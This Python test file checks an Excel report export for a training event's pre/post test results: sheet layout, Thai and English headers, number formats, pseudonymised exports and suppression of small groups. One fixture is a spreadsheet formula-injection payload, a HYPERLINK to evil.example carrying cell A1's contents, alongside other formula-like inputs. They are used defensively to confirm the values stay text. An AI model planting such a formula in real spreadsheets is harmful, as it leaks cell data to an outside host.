"""The Excel workbook, read back with openpyxl: sheets, headers, cell types, privacy."""

from __future__ import annotations

import functools
import io
import json
import struct
import zlib
from datetime import date

import openpyxl
import pandas as pd
import pytest

from assessment.reports import excel
from assessment.reports.data import (
    EventData,
    choices_frame,
    ratings_frame,
    scores_frame,
    wide_by_person,
)
from assessment.reports.statistics import build_report

SECRET = "installation-secret"
#: p-values as the page shows them: "< 0.001" below a thousandth, else three decimals
P_VALUE = '[<0.001]"< 0.001";0.000'
CHARTS = ("by_level", "by_department", "participant_change", "distribution", "by_topic",
          "item_facility")
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SENIOR, CLERK, FINANCE, WORKS = "ชำนาญการพิเศษ", "สำนักปลัดเทศบาล", "กองคลัง", "กองช่าง"


def tiny_png(width: int = 40, height: int = 30) -> bytes:
    """A valid red PNG, small enough to write by hand."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    pixels = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(pixels))
            + chunk(b"IEND", b""))


def people() -> pd.DataFrame:
    """Twelve people in two big departments, two in a small one, one of each who took one test."""
    rows = [(1, EVIL_NAME, "+66-001", CLERK)]
    rows += [(i, f"สมชาย ใจดี {i}", f"E{i:03}", CLERK) for i in range(2, 7)]
    rows += [(i, f"Somsri Finance {i}", f"E{i:03}", FINANCE) for i in range(7, 13)]
    rows += [(13, "วิไล ช่างคิด", "E013", WORKS), (14, "Prasert Works", "E014", WORKS)]
    rows += [(15, "Only Before", "E015", FINANCE), (16, "Only After Works", "E016", WORKS)]
    frame = pd.DataFrame(rows, columns=["participant_id", "name", "employee_id", "department"])
    return frame.assign(level=SENIOR, level_group="ประเภทวิชาการ").set_index("participant_id")


def questions() -> pd.DataFrame:
    rows = [("q1", "ความรู้ทั่วไป", "single", 1, 0), ("q2", "ความรู้ทั่วไป", "true_false", 1, 1),
            ("q3", "PDPA", "short_text", 1, 2), ("q4", "PDPA", "numeric", 2, 3),
            ("r1", "PDPA", "rating", 0, 4)]
    frame = pd.DataFrame(rows, columns=["question_id", "topic", "type", "max_points", "position"])
    frame["options"] = [("a", "b", "c"), ("true", "false"), (), (), ()]
    frame["key"] = [("a",), ("true",), (), (), ()]
    return frame.set_index("question_id")


def answers_of(person: int, phase: str) -> dict[str, tuple[object, float]]:
    """Each question's answer and points; later people and the post-test score higher."""
    right = (person + (2 if phase == "post" else 0)) % 4
    typed = {1: "+1+1", 2: "@SUM(A1)", 3: "-5"}.get(person, "ขอนแก่น")
    return {"q1": ("a" if right > 0 else "b", float(right > 0)),
            "q2": (right > 1, float(right > 1)),
            "q3": (typed, float(right > 2)),
            "q4": (42, 2.0 * (right > 0)),
            "r1": (3 + (phase == "post"), None)}


def event_data() -> EventData:
    participants = people()
    attempts, answers = [], []
    for person in participants.index:
        phases = {15: ["pre"], 16: ["post"]}.get(person, ["pre", "post"])
        for phase in phases:
            attempt = len(attempts) + 1
            attempts.append((attempt, person, phase))
            answers += [(attempt, question, points, json.dumps(value))
                        for question, (value, points) in answers_of(person, phase).items()]
    attempts = pd.DataFrame(attempts, columns=["attempt_id", "participant_id", "phase"])
    answers = pd.DataFrame(answers, columns=["attempt_id", "question_id", "points", "value"])
    bank = questions()
    return EventData(participants=participants, scores=scores_frame(attempts, answers, bank),
                     questions=bank, ratings=ratings_frame(attempts, answers, bank),
                     answers=answers, attempts=attempts,
                     choices=choices_frame(attempts, answers, bank))


@functools.cache
def report_and_answers():
    """The report and the wide answer and point frames (computed once: scipy is slow)."""
    data = event_data()
    report = build_report(data.participants, data.scores, data.questions, data.ratings,
                          min_group_size=5, choices=data.choices)
    return report, wide_by_person(data, "value"), wide_by_person(data, "points")


def workbook_bytes(lang: str = "en", pseudonymise: bool = False, secret: str = SECRET,
                   header_codes: bool = False) -> bytes:
    return excel.build_workbook(
        *report_and_answers(),
        dict.fromkeys(CHARTS, tiny_png()), lang=lang, pseudonymise=pseudonymise,
        event_title="สัมมนาเมืองอัจฉริยะ =1+1", event_date=date(2020, 1, 16), secret=secret,
        header_codes=header_codes)


def opened(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.fixture(scope="module")
def english():
    return opened(workbook_bytes("en"))


@pytest.fixture(scope="module")
def english_codes():
    """The English workbook with the columns' codes as headers, as scripts read it."""
    return opened(workbook_bytes("en", header_codes=True))


@pytest.fixture(scope="module")
def shareable():
    """The export without names, for anyone outside HR."""
    return opened(workbook_bytes("en", pseudonymise=True, header_codes=True))


@pytest.fixture(scope="module")
def thai():
    return opened(workbook_bytes("th"))


def every_cell(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def headers(sheet) -> list:
    return [cell.value for cell in sheet[1]]


def last_table_row(sheet) -> int:
    return int("".join(c for c in sheet.auto_filter.ref.split(":")[1] if c.isdigit()))


def column(sheet, header: str) -> list:
    """The cells under `header` in the sheet's filtered table."""
    position = headers(sheet).index(header)
    return [row[position] for row in sheet.iter_rows(min_row=2, max_row=last_table_row(sheet))]


def row_of(sheet, header: str, value):
    cells = column(sheet, header)
    return next(cell.row for cell in cells if cell.value == value)


def test_sheets_in_order_in_english(english):
    assert english.sheetnames == ["Summary", "By level", "By department", "By topic",
                                  "Participants", "Items", "Responses", "Scores", "Not paired",
                                  "Charts", "Columns"]


def test_sheets_in_order_in_thai(thai):
    assert thai.sheetnames == ["สรุป", "ตามระดับ", "ตามหน่วยงาน", "ตามหัวข้อ", "ผู้เข้าร่วม",
                               "รายข้อ", "คำตอบ", "คะแนน", "ไม่ครบคู่", "แผนภูมิ",
                               "คำอธิบายคอลัมน์"]


def test_english_headers_are_words(english):
    assert headers(english["By level"])[:4] == [
        "Staff level", "People who took both tests", "Took only the pre-test",
        "Took only the post-test"]
    assert {"Employee ID", "Name", "Department", "Pre-test score (%)", "Gain (points of %)",
            "Normalised gain (g)"} <= set(headers(english["Participants"]))
    assert not {"n_paired", "g_of_averages", "employee_id"} & {
        header for sheet in english.worksheets[:9] for header in headers(sheet)}


def test_header_codes_for_scripts_are_the_machine_names(english_codes):
    english = english_codes
    group_columns = ["n_paired", "pre_mean_percent", "post_mean_percent", "mean_gain",
                     "g_of_averages", "mean_of_g", "p_paired_t", "p_wilcoxon", "d_z"]
    for sheet, name in (("By level", "level"), ("By department", "department")):
        found = [h for h in headers(english[sheet]) if h in group_columns]
        assert headers(english[sheet])[0] == name
        assert found == group_columns
    assert {"employee_id", "name", "department", "level", "pre_percent", "post_percent",
            "gain", "normalized_gain"} <= set(headers(english["Participants"]))


def test_thai_headers_are_thai_words(thai):
    assert headers(thai["ตามระดับ"])[:3] == [
        "ระดับตำแหน่ง", "จำนวนที่ทำครบ ทั้งสองครั้ง", "ทำเฉพาะ ก่อนอบรม"]
    assert {"รหัสพนักงาน", "ชื่อ-สกุล", "หน่วยงาน", "คะแนนก่อนอบรม (%)"} <= set(
        headers(thai["ผู้เข้าร่วม"]))
    assert headers(thai["คำตอบ"])[:6] == [
        "รหัสพนักงาน", "ชื่อ-สกุล", "หน่วยงาน", "ระดับตำแหน่ง", "ครั้งที่ทดสอบ", "q1"]


def test_numbers_are_numeric_cells_with_formats(english_codes):
    english = english_codes
    sheet = english["By department"]
    for header, number_format in (("n_paired", "0"), ("pre_mean_percent", "0.0"),
                                  ("p_paired_t", P_VALUE), ("g_of_averages", "0.00")):
        cells = [cell for cell in column(sheet, header) if cell.value is not None]
        assert cells
        assert all(cell.data_type == "n" for cell in cells)
        assert {cell.number_format for cell in cells} == {number_format}
    facility = column(english["Items"], "facility")
    assert all(cell.data_type == "n" and cell.number_format == "0.0%" for cell in facility)


def test_missing_numbers_are_empty_cells_never_nan(english_codes):
    english = english_codes
    sheet = english["Participants"]
    only_before = row_of(sheet, "name", "Only Before")
    post = headers(sheet).index("post_percent") + 1
    assert sheet.cell(only_before, post).value is None
    assert not [cell for cell in every_cell(english) if str(cell.value).lower() == "nan"]


@pytest.mark.parametrize("name,frozen", [
    ("By level", "A2"), ("By department", "A2"), ("By topic", "A2"), ("Participants", "C2"),
    ("Items", "A2"), ("Responses", "C2"), ("Scores", "C2"), ("Not paired", "C2")])
def test_tables_have_a_frozen_header_and_a_filter(english, name, frozen):
    sheet = english[name]
    assert sheet.freeze_panes == frozen
    assert sheet.auto_filter.ref.startswith("A1:")
    assert last_table_row(sheet) >= 2


def test_formula_like_text_stays_text(english):
    evil = [cell for cell in every_cell(english) if cell.value == EVIL_NAME]
    typed = [cell for cell in every_cell(english) if cell.value in ("+1+1", "@SUM(A1)", "-5")]
    assert evil and typed
    for cell in evil + typed:
        assert cell.data_type == "s"
        assert cell.quotePrefix
    assert not [cell for cell in every_cell(english) if cell.data_type == "f"]


def test_answers_and_points_one_row_per_person_and_phase(english_codes):
    english = english_codes
    responses, scores = english["Responses"], english["Scores"]
    assert headers(responses)[5:] == ["q1", "q2", "q3", "q4", "r1"]
    assert responses.max_row - 1 == scores.max_row - 1 == 14 * 2 + 2
    answers = {cell.value for cell in column(responses, "q3")}
    assert {"+1+1", "@SUM(A1)", "ขอนแก่น"} <= answers
    points = [cell for cell in column(scores, "q4") if cell.value is not None]
    assert all(cell.data_type == "n" for cell in points)
    assert {cell.value for cell in column(responses, "phase")} == {"pre", "post"}
    ratings = [cell for cell in column(responses, "r1") if cell.value is not None]
    assert ratings and all(cell.data_type == "n" for cell in ratings)


def all_names_and_ids():
    frame = people()
    return set(frame["name"]) | set(frame["employee_id"])


def test_pseudonymised_workbook_names_nobody():
    book = opened(workbook_bytes("th", pseudonymise=True))
    leaked = [cell.value for cell in every_cell(book)
              if any(secret in str(cell.value) for secret in all_names_and_ids())]
    assert leaked == []
    names = {cell.value for cell in column(book["ผู้เข้าร่วม"], "ชื่อ-สกุล")}
    assert names == {excel.pseudonym(SECRET, person) for person in people().index}


def test_pseudonyms_are_stable_across_sheets_and_exports():
    first = opened(workbook_bytes("en", pseudonymise=True))
    again = opened(workbook_bytes("th", pseudonymise=True))
    expected = excel.pseudonym(SECRET, 7)
    assert expected.startswith("P-") and len(expected) == 10
    for book, sheets in ((first, ("Participants", "Responses", "Scores")),
                         (again, ("ผู้เข้าร่วม", "คำตอบ", "คะแนน"))):
        for sheet in sheets:
            names = [cell.value for cell in column(book[sheet], headers(book[sheet])[1])]
            assert expected in names
    assert excel.pseudonym("another-installation", 7) != expected


def test_hr_workbook_names_everyone_even_in_small_groups(english_codes):
    """HR follows up people who missed a test: every name and employee ID is in its workbook."""
    values = {str(cell.value) for cell in every_cell(english_codes)}
    assert all_names_and_ids() <= values
    participants = english_codes["Participants"]
    row = row_of(participants, "name", "วิไล ช่างคิด")
    cells = {header: participants.cell(row, i + 1).value
             for i, header in enumerate(headers(participants))}
    assert cells["employee_id"] == "E013"
    assert cells["note"] == "⚠ in a group of fewer than 5"
    assert {"Only Before", "Only After Works"} <= {
        cell.value for cell in column(english_codes["Not paired"], "name")}


def test_shareable_export_leaves_small_groups_blank(shareable):
    """Works has two paired people: who they are and what they scored cannot be worked out."""
    sheet = shareable["By department"]
    row = row_of(sheet, "department", WORKS)
    cells = {header: sheet.cell(row, i + 1).value for i, header in enumerate(headers(sheet))}
    assert cells["n_paired"] == 2
    for statistic in ("pre_mean_percent", "post_mean_percent", "mean_gain", "g_of_averages",
                      "p_paired_t", "d_z", "d_z_ci_low", "n_excluded_from_g"):
        assert cells[statistic] is None, statistic
    assert cells["note"] == "⚠ fewer than 5 people: left blank"
    big = row_of(sheet, "department", FINANCE)
    assert sheet.cell(big, headers(sheet).index("pre_mean_percent") + 1).value is not None
    for name in ("Participants", "Responses", "Scores", "Not paired"):
        assert not {"department", "level", "level_group"} & set(headers(shareable[name])), name
    assert WORKS not in {str(cell.value) for cell in every_cell(shareable)
                         if cell.parent.title in ("Participants", "Responses", "Scores")}


def test_shareable_export_leaves_out_charts_of_small_groups(shareable, english):
    titles = {cell.value for cell in every_cell(shareable) if cell.parent.title == "Charts"}
    assert "Pre and post by department" not in titles
    assert {"Gain by topic", "Pre and post by staff level"} <= titles  # one level of 14
    assert len(shareable["Charts"]._images) == len(CHARTS) - 1
    assert len(english["Charts"]._images) == len(CHARTS)


def test_p_values_read_as_the_page_shows_them_and_stay_numbers(english_codes):
    summary = english_codes["Summary"]
    cell = next(row[1] for row in summary.iter_rows(min_row=4)
                if row[0].value == "p-value, paired t-test")
    assert cell.data_type == "n" and isinstance(cell.value, float)
    assert cell.number_format == P_VALUE


def test_columns_sheet_lists_every_header_with_its_code_and_meaning(english, thai):
    for book, intro in ((english, "Every column header"), (thai, "หัวคอลัมน์ทุกคอลัมน์")):
        sheet = book.worksheets[-1]
        assert str(sheet["A1"].value).startswith(intro)
        listed = {row[0]: (row[1], row[2]) for row in sheet.iter_rows(min_row=4,
                                                                        values_only=True)}
        for table in book.worksheets[1:6]:
            for header in filter(None, headers(table)):
                assert header in listed, (table.title, header)
                code, meaning = listed[header]
                assert code and meaning, header
    english_columns = {row[1]: row[0] for row in english.worksheets[-1].iter_rows(
        min_row=4, values_only=True)}
    assert english_columns["g_of_averages"] == "Normalised gain of the averages ⟨g⟩"
    assert english_columns["p_paired_t"] == "p-value (paired t-test)"


def test_items_sheet_repeats_the_moves_on_pre_and_post_rows(english_codes):
    sheet = english_codes["Items"]
    phases = column(sheet, "phase")
    for move in ("learned", "forgot", "kept", "never_knew"):
        cells = column(sheet, move)
        for phase in ("pre", "post"):
            rows = [cell for cell, when in zip(cells, phases, strict=True) if when.value == phase]
            assert rows and all(cell.data_type == "n" for cell in rows), (move, phase)


def test_small_groups_are_marked(english_codes):
    english = english_codes
    sheet = english["By department"]
    row = row_of(sheet, "department", WORKS)
    notes = {header: sheet.cell(row, i + 1).value for i, header in enumerate(headers(sheet))}
    assert notes["small_group"] is True
    assert notes["note"] == "⚠ fewer than 5: no g, tests or d_z"
    assert notes["d_z"] is None and notes["p_paired_t"] is None
    assert sheet.cell(row, 1).fill.fgColor.rgb.endswith("FFF2CC")


def test_summary_in_thai(thai):
    sheet = thai["สรุป"]
    texts = [cell.value for cell in every_cell(thai) if cell.parent is sheet]
    assert texts[:2] == ["สัมมนาเมืองอัจฉริยะ =1+1", "16 มกราคม พ.ศ. 2563"]
    assert sheet["A1"].data_type == "s" and sheet["A1"].font.b
    labels = {row[0].value: row[1] for row in sheet.iter_rows(min_row=5) if row[0].value}
    assert labels["จำนวนผู้ทำแบบทดสอบครบทั้งก่อนและหลังอบรม"].value == 14
    assert labels["คะแนนเฉลี่ยก่อนอบรม (%)"].number_format == "0.0"
    assert labels["ค่า p (paired t-test)"].number_format == P_VALUE
    assert labels["ค่า p (paired t-test)"].data_type == "n"
    assert "ความเชื่อมั่นของแบบทดสอบก่อนอบรม (Cronbach's alpha)" in labels
    assert labels["ขนาดกลุ่มขั้นต่ำ (คน)"].value == 5
    assert any("นับเฉพาะผู้ที่ทำแบบทดสอบครบ" in str(text) for text in texts)
    assert any("น้อยกว่า 5 คน" in str(text) for text in texts)
    assert {"ก่อนอบรม", "หลังอบรม"} <= set(texts)


def test_summary_in_english_has_reliability_per_phase(english):
    texts = [cell.value for cell in every_cell(english) if cell.parent.title == "Summary"]
    assert "16 January 2020" in texts
    assert "Reliability by phase (Cronbach's alpha)" in texts
    assert "Reliability (alpha)" in texts
    assert any("Only people who took both" in str(text) for text in texts)


def test_thai_text_round_trips(thai):
    values = {cell.value for cell in every_cell(thai)}
    assert {CLERK, FINANCE, "สมชาย ใจดี 2", "ขอนแก่น", "ความรู้ทั่วไป", SENIOR} <= values


def test_charts_one_below_another_with_titles(english):
    sheet = english["Charts"]
    assert len(sheet._images) == len(CHARTS)
    rows = [image.anchor._from.row for image in sheet._images]
    assert rows == sorted(rows) and len(set(rows)) == len(rows)
    assert sheet["A1"].value == "Pre and post by staff level"


def test_columns_fit_thai_text(thai):
    sheet = thai["ผู้เข้าร่วม"]
    department = headers(sheet).index("หน่วยงาน")
    letter = openpyxl.utils.get_column_letter(department + 1)
    assert sheet.column_dimensions[letter].width >= len(CLERK) - 2


def test_missing_and_infinite_values_become_empty_cells():
    values = excel.plain_values(pd.Series([1.5, float("nan"), float("inf"), -float("inf")]))
    assert values == [1.5, None, None, None]
    assert excel.plain_values(pd.Series(["a", None, pd.NA], dtype=object)) == ["a", None, None]


def test_thai_marks_take_no_width():
    assert excel.display_width("ที่") == 1
    assert excel.display_width("สวัสดี") == 4
    assert excel.display_width("Khon Kaen") == 9


def test_pseudonyms_need_a_secret():
    with pytest.raises(ValueError, match="secret"):
        workbook_bytes(secret="")


def test_workbook_before_the_post_test():
    """HR may download after the pre-test: nobody paired, no ratings, every group small."""
    data = event_data()
    attempts = data.attempts[data.attempts["phase"] == "pre"]
    bank = data.questions.drop(index="r1")
    answers = data.answers[data.answers["attempt_id"].isin(attempts["attempt_id"])
                           & data.answers["question_id"].isin(bank.index)]
    pre_only = EventData(data.participants, scores_frame(attempts, answers, bank), bank,
                         ratings_frame(attempts, answers, bank), answers, attempts)
    report = build_report(pre_only.participants, pre_only.scores, pre_only.questions,
                          pre_only.ratings, min_group_size=5)
    books = [opened(excel.build_workbook(
        report, wide_by_person(pre_only, "value"), wide_by_person(pre_only, "points"), {},
        lang="en", secret=SECRET, pseudonymise=shareable)) for shareable in (False, True)]
    named, shareable = books
    assert named["Not paired"].max_row == 1 + len(people()) - 1
    assert not {str(cell.value) for cell in every_cell(shareable)} & all_names_and_ids()


def test_shareable_export_of_a_small_event_keeps_only_its_counts():
    """14 paired people under a minimum of 20: the whole event is a small group."""
    data = event_data()
    report = build_report(data.participants, data.scores, data.questions, data.ratings,
                          min_group_size=20)
    summaries = []
    for shareable in (False, True):
        book = opened(excel.build_workbook(
            report, wide_by_person(data, "value"), wide_by_person(data, "points"), {},
            lang="en", secret=SECRET, pseudonymise=shareable))
        summaries.append({row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)})
    named, shareable = summaries
    assert named["Mean pre-test score (%)"] is not None and named["Effect size, Cohen's d_z"]
    assert shareable["People who took both tests (paired)"] == 14
    for label in ("Mean pre-test score (%)", "Mean post-test score (%)",
                  "p-value, paired t-test", "Effect size, Cohen's d_z"):
        assert shareable[label] is None, label


def test_items_sheet_has_the_item_review_and_the_option_shares(english):
    from assessment.reports.excel.columns import header as column_header

    def col(code):
        return column_header(code, "en")

    sheet = english["Items"]
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    review = next(i for i, row in enumerate(cells)
                  if row[0] == col("question_id") and col("too_easy") in row)
    assert cells[review - 1][0].startswith("Item review for the next version")
    header = cells[review]
    q1 = dict(zip(header, cells[review + 1], strict=False))
    assert q1[col("question_id")] == "q1" and q1[col("unused_distractors")] == "c"
    assert isinstance(q1[col("too_easy")], bool)
    assert isinstance(q1[col("fully_right_pre")], float)
    shares = next(i for i, row in enumerate(cells)
                  if row[:3] == [col("question_id"), col("option"), col("keyed")])
    rows = [dict(zip(cells[shares], row, strict=False)) for row in cells[shares + 1:shares + 6]]
    assert [(row[col("question_id")], row[col("option")], row[col("keyed")])
            for row in rows] == [
        ("q1", "a", True), ("q1", "b", False), ("q1", "c", False), ("q2", "true", True),
        ("q2", "false", False)]
    assert rows[2][col("share_pre")] == 0 and 0 < rows[0][col("share_pre")] < 1
    assert sheet.cell(shares + 2, 4).number_format == "0.0%"
